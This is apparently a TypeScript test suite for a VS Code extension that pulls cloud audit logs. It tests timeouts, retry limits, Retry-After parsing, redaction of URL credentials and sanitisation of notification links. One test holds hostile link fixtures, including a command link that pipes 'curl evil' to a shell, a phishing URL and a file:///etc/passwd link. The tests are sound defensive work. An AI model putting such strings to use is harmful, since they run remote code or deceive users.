/**
 * Issue 12, network items: every request has an overall deadline (12), no notification carries a
 * link from outside text (13), URL credentials never reach a log (15), Cloudflare's search POST is
 * retried like a GET (17), CloudTrail's SDK retries keep to 2 requests per second (18), and
 * Retry-After / rate-limit reset values in any form make a sensible wait (26).
 * Local servers on 127.0.0.1 with small limits set by option, so every test is fast.
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import * as path from 'node:path';
import { GetQueryExecutionCommand } from '@aws-sdk/client-athena';
import { GetObjectCommand, ListObjectsV2Command } from '@aws-sdk/client-s3';
import { ConfiguredRetryStrategy } from '@smithy/core/retry';
import fc from 'fast-check';
import { z } from 'zod';
import { endpointCredentialsProblem } from '../../src/core/endpoint';
import { ApiError, formatDuration, redact, redactUrlCredentials } from '../../src/core/errors';
import { describeWait, HttpClient, MAX_RETRY_AFTER_MS, parseRetryAfter } from '../../src/core/http';
import { notificationSafe } from '../../src/core/safeText';
import { EventStore } from '../../src/core/store';
import { athenaSessionFactory } from '../../src/providers/athena/client';
import { createAwsCloudTrailProvider, encodeAwsCredentials, type AwsCloudTrailProviderOptions } from '../../src/providers/awsCloudtrail/index';
import { createCloudflareProvider } from '../../src/providers/cloudflare/index';
import { createControlPlaneProvider } from '../../src/providers/controlplane/index';
import type { AccountConfig, FetchReport, LiveProvider, LiveQuery } from '../../src/providers/provider';
import { openS3Session } from '../../src/providers/s3Trail/index';
import { json, startFakeServer, trickle, type FakeServer } from '../support/fakeServer';
import { FAKE_KEY_ID, FAKE_SECRET, startAwsCloudTrailFake, type CtFake } from '../support/fakes/awsCloudtrail';
import { FAKE_ACCOUNT as CF_ACCOUNT, FAKE_TOKEN as CF_TOKEN, START as CF_START, startCloudflareFake, type CfFake } from '../support/fakes/cloudflare';
import { FAKE_ORG, FAKE_TOKEN as CPLN_TOKEN, startCplnFake, type CplnFake } from '../support/fakes/controlplane';

const ROOT = path.resolve(__dirname, '../../..');
const KEYS = encodeAwsCredentials({ type: 'keys', accessKeyId: FAKE_KEY_ID, secretAccessKey: FAKE_SECRET });

/**
 * A fetch that never ends would hang the suite: after `ms` the test fails with "still running" and
 * the fetch is cancelled. This bounds the failing case only; what passes is the fetch's own end.
 */
async function ends<T>(what: string, ms: number, run: (signal: AbortSignal) => Promise<T>): Promise<T> {
  const ac = new AbortController();
  let timer: NodeJS.Timeout | undefined;
  const hang = new Promise<never>((_, reject) => {
    timer = setTimeout(() => {
      ac.abort();
      reject(new assert.AssertionError({ message: `${what} was still running after ${ms / 1000} s against a trickling server` }));
    }, ms);
  });
  try {
    return await Promise.race([run(ac.signal), hang]);
  } finally {
    clearTimeout(timer);
  }
}

async function fetchAll(provider: LiveProvider, account: AccountConfig, secret: string, query: Partial<LiveQuery>, signal?: AbortSignal): Promise<{ report: FetchReport; store: EventStore }> {
  const store = new EventStore();
  const report = await provider.fetch(account, secret, { filter: '', ...query }, { onBatch: (b) => void store.appendBatch(b) }, signal);
  return { report, store };
}

describe('trust: network (issue 12)', function () {
  this.timeout(60_000);

  describe('item 12: a trickling server ends every fetch with "timed out after N s", pages kept', () => {
    let cpln: CplnFake;
    let ct: CtFake;
    let plain: FakeServer;
    before(async () => {
      cpln = await startCplnFake();
      ct = await startAwsCloudTrailFake();
      plain = await startFakeServer();
    });
    after(async () => {
      await cpln.close();
      await ct.close();
      await plain.close();
    });

    it('Control Plane (HttpClient): page 2 trickles one byte every 40 ms; the fetch stops at the 0.4 s deadline with page 1 kept', async () => {
      const logs: string[] = [];
      const provider = createControlPlaneProvider({ log: (l) => logs.push(l), retries: { max: 2, baseMs: 1, maxMs: 5 }, timeouts: { connectMs: 2000, readMs: 3000, totalMs: 400 }, perSecond: 1000 });
      cpln.failures.trickle = { page: 2, everyMs: 40 };
      const account: AccountConfig = { id: 'cp', provider: 'controlplane', label: 'cp', endpoint: cpln.url, scope: FAKE_ORG };
      const { report, store } = await ends('fetch controlplane', 15_000, (signal) => fetchAll(provider, account, CPLN_TOKEN, {}, signal));
      assert.equal(report.stoppedBy?.kind, 'timeout', report.stoppedBy?.message);
      assert.match(report.stoppedBy!.message, /timed out after 0\.4 s/);
      assert.equal(report.pages, 1, 'the page before the trickle is kept');
      assert.ok(report.events > 0 && store.size === report.events);
      assert.equal(cpln.requests.length, 2, 'a timed-out try is not repeated');
      assert.ok(
        logs.some((l) => /GET http:\/\/127\.0\.0\.1:\d+\/audit\/org\/.* → timeout in \d+ ms \(page 2\); giving up after 1 try/.test(l)),
        `a log line for the try that timed out:\n${logs.join('\n')}`,
      );
    });

    it('AWS CloudTrail (SDK): LookupEvents page 2 trickles; stops at the 0.4 s deadline, page 1 kept, not retried, each try logged', async () => {
      const logs: string[] = [];
      const options: AwsCloudTrailProviderOptions = { log: (l) => logs.push(l), perSecond: 1000, retryStrategy: new ConfiguredRetryStrategy(3, 5), timeouts: { deadlineMs: 400 } };
      const provider = createAwsCloudTrailProvider(options);
      ct.knobs.trickle = { everyMs: 40, when: (c) => c.op === 'LookupEvents' && c.body.NextToken !== undefined };
      const account: AccountConfig = { id: 'aws', provider: 'cloudtrail', label: 'prod', endpoint: ct.url, region: 'us-east-1' };
      try {
        const { report, store } = await ends('fetch cloudtrail', 15_000, (signal) => fetchAll(provider, account, KEYS, {}, signal));
        assert.equal(report.stoppedBy?.kind, 'timeout', report.stoppedBy?.message);
        assert.match(report.stoppedBy!.message, /LookupEvents in us-east-1 timed out after 0\.4 s, the limit for one request/);
        assert.equal(report.pages, 1);
        assert.equal(report.events, 50);
        assert.equal(store.size, 50);
        assert.equal(ct.calls.filter((c) => c.op === 'LookupEvents').length, 2, 'the timed-out try is not retried');
        assert.ok(
          logs.some((l) => /POST http:\/\/127\.0\.0\.1:\d+\/ LookupEvents \(try 1 of \d\) → timed out after 0\.4 s/.test(l)),
          `the try that timed out is logged when it times out:\n${logs.join('\n')}`,
        );
      } finally {
        ct.knobs.trickle = undefined;
      }
    });

    it('AWS CloudTrail (SDK): throttled tries are each logged with their number', async () => {
      const logs: string[] = [];
      const provider = createAwsCloudTrailProvider({ log: (l) => logs.push(l), perSecond: 1000, retryStrategy: new ConfiguredRetryStrategy(3, 5) });
      ct.knobs.throttle = 2;
      const account: AccountConfig = { id: 'aws2', provider: 'cloudtrail', label: 'prod', endpoint: ct.url, region: 'us-east-1' };
      const { report } = await fetchAll(provider, account, KEYS, { maxPages: 1 });
      assert.equal(report.pages, 1, report.stoppedBy?.message);
      assert.ok(logs.some((l) => /LookupEvents \(try 1 of \d\) → 400 ThrottlingException/.test(l)), logs.join('\n'));
      assert.ok(logs.some((l) => /LookupEvents \(try 2 of \d\) → 400 ThrottlingException/.test(l)), logs.join('\n'));
    });

    it('S3 (SDK): a trickling listing and a trickling object both stop at the deadline, once each', async () => {
      const logs: string[] = [];
      plain.requests.length = 0;
      plain.handle((req, res) => {
        req.resume();
        const xml = `<?xml version="1.0" encoding="UTF-8"?><ListBucketResult><Name>b</Name>${'<Contents><Key>k</Key></Contents>'.repeat(50)}</ListBucketResult>`;
        trickle(res, 200, xml, 40, { 'content-type': req.url?.includes('list-type') ? 'application/xml' : 'application/octet-stream' });
      });
      const account: AccountConfig = { id: 's3', provider: 'cloudtrail', label: 's3', endpoint: plain.url, region: 'us-east-1' };
      const s = openS3Session(account, KEYS, { timeouts: { deadlineMs: 300 }, log: (l) => logs.push(l) });
      try {
        const list = await ends('ListObjectsV2', 15_000, () => s.send('ListObjectsV2', { bucket: 'b', key: '' }, (c) => c.send(new ListObjectsV2Command({ Bucket: 'b' }))).then(() => undefined, (e: unknown) => e));
        assert.ok(list instanceof ApiError && list.kind === 'timeout', String(list));
        assert.match(list.message, /timed out after 0\.3 s/);
        assert.equal(plain.requests.length, 1, 'not retried');

        const body = await ends('GetObject', 15_000, async () => {
          const out = await s.send('GetObject', { bucket: 'b', key: 'k' }, (c) => c.send(new GetObjectCommand({ Bucket: 'b', Key: 'k' })));
          try {
            await out.Body!.transformToByteArray();
            return undefined;
          } catch (e) {
            return s.error(e, 'GetObject', { bucket: 'b', key: 'k' });
          }
        });
        assert.equal(body?.kind, 'timeout', String(body?.message));
        assert.match(body!.message, /timed out after 0\.3 s, the limit for one request \(the response began but did not finish\)/);
        assert.equal(plain.requests.length, 2);
        assert.ok(logs.some((l) => /GET http:\/\/127\.0\.0\.1:\d+\/b\/k.* → timed out after 0\.3 s/.test(l)), logs.join('\n'));
      } finally {
        s.close();
      }
    });

    it('Athena (SDK): a trickling answer stops at the deadline, not retried', async () => {
      const logs: string[] = [];
      plain.requests.length = 0;
      plain.handle((req, res) => {
        req.resume();
        trickle(res, 200, JSON.stringify({ QueryExecution: { QueryExecutionId: 'q', Status: { State: 'RUNNING' } }, pad: 'x'.repeat(500) }), 40, { 'content-type': 'application/x-amz-json-1.1' });
      });
      const account: AccountConfig = { id: 'ath', provider: 'cloudtrail', label: 'athena', region: 'us-east-1' };
      const s = athenaSessionFactory({ timeouts: { deadlineMs: 300 }, log: (l) => logs.push(l), retryStrategy: new ConfiguredRetryStrategy(3, 5) })(account, KEYS, 'us-east-1', plain.url);
      try {
        const e = await ends('GetQueryExecution', 15_000, () =>
          s.send('GetQueryExecution', (c, sig) => c.send(new GetQueryExecutionCommand({ QueryExecutionId: 'q' }), { abortSignal: sig }), undefined).then(() => undefined, (x: unknown) => x),
        );
        assert.ok(e instanceof ApiError && e.kind === 'timeout', String(e));
        assert.match(e.message, /GetQueryExecution in us-east-1 timed out after 0\.3 s/);
        assert.equal(plain.requests.length, 1);
        assert.ok(logs.some((l) => /GetQueryExecution \(try 1 of \d\) → timed out after 0\.3 s/.test(l)), logs.join('\n'));
      } finally {
        s.close();
      }
    });
  });

  describe('item 18: CloudTrail retries go through the 2-per-second limiter', () => {
    it('3 throttled LookupEvents retried by the SDK 5 ms later: no 1-second window holds more than 2 requests', async () => {
      const ct = await startAwsCloudTrailFake();
      try {
        // The default rate (2/s); the SDK's retry waits only 5 ms, as a jittered real one may (0.09 s).
        const provider = createAwsCloudTrailProvider({ retryStrategy: new ConfiguredRetryStrategy(4, 5) });
        ct.knobs.throttle = 3;
        const account: AccountConfig = { id: 'aws', provider: 'cloudtrail', label: 'prod', endpoint: ct.url, region: 'us-east-1' };
        const { report } = await fetchAll(provider, account, KEYS, {});
        assert.equal(report.stoppedBy, undefined, report.stoppedBy?.message);
        assert.equal(report.pages, 3);
        const times = ct.calls.filter((c) => c.op === 'LookupEvents').map((c) => c.at);
        assert.equal(times.length, 6, '3 throttled tries and 3 pages');
        // Spaced 500 ms apart, the 3rd of any three requests is a full second after the 1st; 50 ms
        // is the slack for timers and the loopback.
        for (let i = 2; i < times.length; i++) {
          const span = times[i] - times[i - 2];
          assert.ok(span >= 950, `requests ${i - 2}..${i} arrived within ${Math.round(span)} ms: more than 2 in one second`);
        }
      } finally {
        await ct.close();
      }
    });
  });

  describe('item 17: a Cloudflare search (POST) is retried like a GET', () => {
    let cf: CfFake;
    before(async () => {
      cf = await startCloudflareFake();
    });
    after(async () => {
      await cf.close();
    });

    it('a 429 then a 500 on the list POST: retried, every page fetched', async () => {
      const provider = createCloudflareProvider({ retries: { max: 3, baseMs: 1, maxMs: 5 }, timeouts: { connectMs: 2000, readMs: 3000 }, perSecond: 1000 });
      const account: AccountConfig = { id: 'cf', provider: 'cloudflare', label: 'cf', endpoint: cf.base, scope: CF_ACCOUNT };
      // A time range is sent as search conditions on the date, so the list is a POST.
      const range = { from: CF_START - 86_400_000, to: CF_START + 400 * 86_400_000 };
      const clean = await fetchAll(provider, account, CF_TOKEN, range);
      assert.equal(clean.report.stoppedBy, undefined, clean.report.stoppedBy?.message);
      cf.reset();
      cf.knobs.failures = [
        { from: 1, status: 429, retryAfter: '0' },
        { from: 2, status: 500 },
      ];
      const { report, store } = await fetchAll(provider, account, CF_TOKEN, range);
      assert.equal(cf.requests[0].method, 'POST', 'a list with search conditions is a POST');
      assert.equal(cf.requests[1].method, 'POST');
      assert.equal(report.stoppedBy, undefined, report.stoppedBy?.message);
      assert.equal(report.pages, clean.report.pages);
      assert.equal(store.size, clean.store.size);
      assert.ok(store.size > 0);
    });

    it('writes stay unretried: only requests marked idempotent are', () => {
      // The marker is on the list request only (writes.ts sends plain POSTs).
      const writes = readFileSync(path.join(ROOT, 'src/providers/cloudflare/writes.ts'), 'utf8');
      assert.ok(!/idempotent/.test(writes));
    });
  });

  describe('item 26: Retry-After and rate-limit resets in every form', () => {
    const now = Date.parse('2026-12-03T12:00:00Z');

    it('delay seconds, epoch seconds, epoch milliseconds and HTTP dates give the wait from now, clamped to a day', () => {
      assert.equal(parseRetryAfter('120', now), 120_000);
      assert.equal(parseRetryAfter('1.5', now), 1500);
      assert.equal(parseRetryAfter(String(now / 1000 + 1800), now), 1_800_000, 'epoch seconds (x-ratelimit-reset)');
      assert.equal(parseRetryAfter(String(now + 90_000), now), 90_000, 'epoch milliseconds');
      assert.equal(parseRetryAfter('Thu, 03 Dec 2026 12:38:00 GMT', now), 38 * 60_000, 'IMF-fixdate');
      assert.equal(parseRetryAfter('Thursday, 03-Dec-26 12:00:30 GMT', now), 30_000, 'RFC 850 date');
      assert.equal(parseRetryAfter(String(now / 1000 - 60), now), 0, 'a reset in the past: no wait');
      assert.equal(parseRetryAfter('2299962960', now), MAX_RETRY_AFTER_MS, 'years away: clamped');
      assert.equal(parseRetryAfter('999999999', now), MAX_RETRY_AFTER_MS, '31 years of delay seconds: clamped');
      for (const junk of ['soon', '1 2', 'Tuesday 5', '2026/12/03 12:00', 'Thu, 31 Feb 2026 00:00:00 GMT', 'Thu, 03 Dec 2026 12:38:00 CET', '-5', '']) {
        assert.equal(parseRetryAfter(junk, now), undefined, junk);
      }
    });

    it('words the wait sensibly', () => {
      assert.equal(describeWait(30_000), 'try again in 30 s');
      assert.equal(describeWait(38 * 60_000), 'try again in 38 min');
      assert.equal(describeWait(5 * 3_600_000 + 20 * 60_000), 'try again in 5 h 20 min');
      assert.equal(describeWait(MAX_RETRY_AFTER_MS), 'try again in a day or more');
      assert.equal(formatDuration(3 * 3_600_000), '3 h');
    });

    it('a 429 whose x-ratelimit-reset is an epoch time says "try again in 30 min", not millions of minutes', async () => {
      const server = await startFakeServer();
      try {
        const reset = String(Math.floor(Date.now() / 1000) + 30 * 60);
        server.handle((_q, res) => json(res, 429, { message: 'slow down' }, { 'x-ratelimit-reset': reset }));
        const client = new HttpClient({ provider: 'TestAPI', baseUrl: server.url, retries: { max: 2, baseMs: 1, maxMs: 5 } });
        const e = await client.getJson('/x', undefined, z.unknown()).then(
          () => assert.fail('no error'),
          (x: unknown) => x as ApiError,
        );
        assert.equal(e.kind, 'rate-limited');
        assert.match(e.message, /try again in (29|30) min\.$/);
        assert.equal(server.requests.length, 1, 'a wait past the cap is not sat out');

        server.handle((_q, res) => json(res, 429, {}, { 'retry-after': '2299962960' }));
        const far = await client.getJson('/x', undefined, z.unknown()).then(
          () => assert.fail('no error'),
          (x: unknown) => x as ApiError,
        );
        assert.match(far.message, /try again in a day or more\.$/);
        await client.close();
      } finally {
        await server.close();
      }
    });
  });

  describe('item 15: credentials in an endpoint URL never reach a log or a message', () => {
    it('redact() hides URL userinfo in any text, in linear time', () => {
      assert.equal(redactUrlCredentials('GET http://user:hunter2@127.0.0.1:9/x → 200'), 'GET http://[redacted]@127.0.0.1:9/x → 200');
      assert.equal(redact('to https://hunter2@h/ and http://a:b@c', []), 'to https://[redacted]@h/ and http://[redacted]@c');
      assert.equal(redact('mail bob@example.com, http://h/a@b', []), 'mail bob@example.com, http://h/a@b', 'no userinfo, nothing changed');
      const long = `${'://'.repeat(20_000)}${'a'.repeat(60_000)}`;
      assert.equal(redactUrlCredentials(long + '@'), `${'://'.repeat(19_999)}://[redacted]@`);
    });

    it('HttpClient: an endpoint with user:password is redacted from every log line and the error', async () => {
      const server = await startFakeServer((_q, res) => json(res, 500, { message: 'boom' }));
      try {
        const logs: string[] = [];
        const base = server.url.replace('http://', 'http://analyst:hunter2@');
        const client = new HttpClient({ provider: 'TestAPI', baseUrl: base, retries: { max: 1, baseMs: 1, maxMs: 2 }, log: (l) => logs.push(l) });
        const e = await client.getJson('/events', undefined, z.unknown()).then(
          () => assert.fail('no error'),
          (x: unknown) => x as ApiError,
        );
        assert.ok(logs.length >= 1);
        for (const text of [...logs, e.message, e.url]) assert.ok(!text.includes('hunter2'), `leaks the password: ${text}`);
        await client.close();
      } finally {
        await server.close();
      }
    });

    it('AWS CloudTrail: an endpoint with user:password is redacted from the log lines and the error', async () => {
      const logs: string[] = [];
      const provider = createAwsCloudTrailProvider({ log: (l) => logs.push(l), perSecond: 1000, maxAttempts: 1, timeouts: { connectMs: 500 } });
      const account: AccountConfig = { id: 'aws', provider: 'cloudtrail', label: 'prod', endpoint: 'http://analyst:hunter2@127.0.0.1:1', region: 'us-east-1' };
      const { report } = await fetchAll(provider, account, KEYS, {});
      assert.ok(report.stoppedBy);
      assert.ok(logs.length >= 1);
      for (const text of [...logs, report.stoppedBy.message, report.stoppedBy.url]) assert.ok(!text.includes('hunter2'), `leaks the password: ${text}`);
    });

    it('refused where the URL comes in (the CLI and Add Account use the same check)', () => {
      assert.match(endpointCredentialsProblem('http://user:pass@host/', 'env') ?? '', /^credentials in the endpoint URL are not allowed; use the environment variable/);
      assert.match(endpointCredentialsProblem('https://token@host/', 'prompt') ?? '', /use the key prompt/);
      assert.equal(endpointCredentialsProblem('https://api.example.com/v1', 'prompt'), undefined);
      assert.equal(endpointCredentialsProblem('', 'prompt'), undefined);
      // Add Account: the argument path (scripts, tests) and the endpoint box both run the check.
      const src = readFileSync(path.join(ROOT, 'src/vscode/accountCommands.ts'), 'utf8');
      assert.ok((src.match(/endpointCredentialsProblem\(/g) ?? []).length >= 2, 'both Add Account paths check the endpoint');
      assert.match(src, /const refused = endpointCredentialsProblem\(endpointArg\(p\), 'prompt'\);\s+if \(refused\) \{/);
    });
  });

  describe('item 13: no link from outside text in a notification', () => {
    // The link syntax VS Code's notifications render, from microsoft/vscode
    // src/vs/base/common/linkedText.ts (MIT License, Copyright (c) Microsoft Corporation).
    const LINK_REGEX = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
    const links = (text: string): string[] => [...text.matchAll(LINK_REGEX)].map((m) => m[0]);

    it('the hostile messages are links as they are, and none survives notificationSafe', () => {
      const hostile = [
        '[Show details](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
        'Rate limited: [see status](https://evil.example/phish)',
        '[open](file:///etc/passwd)',
        '[X](COMMAND:workbench.action.reloadWindow "Reload")',
        '[[nested]](command:a) and [a]\\(command:b) and [b]((command:c))',
        '[multi\nline](command:x)',
      ];
      for (const h of hostile) {
        if (!h.includes('\n') && !h.startsWith('[[')) assert.ok(links(h).length > 0, `the raw text is a link: ${h}`);
        const safe = notificationSafe(h);
        assert.deepEqual(links(safe), [], `a link survived: ${safe}`);
        // Still readable: the words are all there.
        for (const word of ['command', 'https', 'file'].filter((w) => h.toLowerCase().includes(w))) assert.ok(safe.toLowerCase().includes(word));
      }
      assert.equal(notificationSafe('[Show details](command:x)'), '[Show details] (command:x)');
      assert.equal(notificationSafe('plain (text) [1]'), 'plain (text) [1]', 'ordinary brackets unchanged');
    });

    it('no string of link pieces survives (property)', () => {
      const piece = fc.constantFrom('[', ']', '(', ')', '](', 'command:', 'https://', 'file:', 'x', ' ', '"', "'", '\\', '\n', '\u202e', '\u200b');
      fc.assert(
        fc.property(fc.array(piece, { maxLength: 40 }), (parts) => {
          const safe = notificationSafe(parts.join(''));
          assert.deepEqual(links(safe), []);
          assert.ok(!/[\u202e\u200b\n]/.test(safe));
        }),
        { numRuns: 3000 },
      );
    });

    it('every notification and progress notification in src/vscode goes through the helper (src/vscode/notify.ts)', () => {
      const dir = path.join(ROOT, 'src/vscode');
      const offenders: string[] = [];
      const files = [...readdirSync(dir).filter((f) => f.endsWith('.ts')).map((f) => path.join(dir, f)), path.join(ROOT, 'src/extension.ts')];
      for (const file of files) {
        if (file.endsWith(`${path.sep}notify.ts`)) continue;
        const text = readFileSync(file, 'utf8');
        for (const m of text.matchAll(/\bshow(?:Information|Warning|Error)Message\s*\(|\bwindow\.withProgress\s*\(/g)) {
          offenders.push(`${path.relative(ROOT, file)}:${text.slice(0, m.index).split('\n').length}`);
        }
      }
      assert.deepEqual(offenders, [], 'notifications that bypass notify.ts (notificationSafe)');
      const notify = readFileSync(path.join(dir, 'notify.ts'), 'utf8');
      assert.match(notify, /fn\(notificationSafe\(message\), options, \.\.\.items\)/);
      assert.equal((notify.match(/vscode\.window\.show(?:Information|Warning|Error)Message\(/g) ?? []).length, 3);
      assert.match(notify, /title: notificationSafe\(options\.title\)/);
      assert.match(notify, /message: notificationSafe\(v\.message\)/);
    });
  });
});
